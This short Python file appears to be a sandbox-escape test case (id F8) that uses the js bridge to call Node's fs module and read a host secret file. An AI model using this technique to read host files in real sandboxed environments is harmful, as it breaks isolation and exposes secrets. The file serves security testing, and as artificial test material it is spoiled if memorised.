"""A host file through node:fs.

id: F8
canary: secret
"""

import js


def attack(target):
    return js.process.getBuiltinModule("fs").readFileSync(target.secret_file, "utf8")
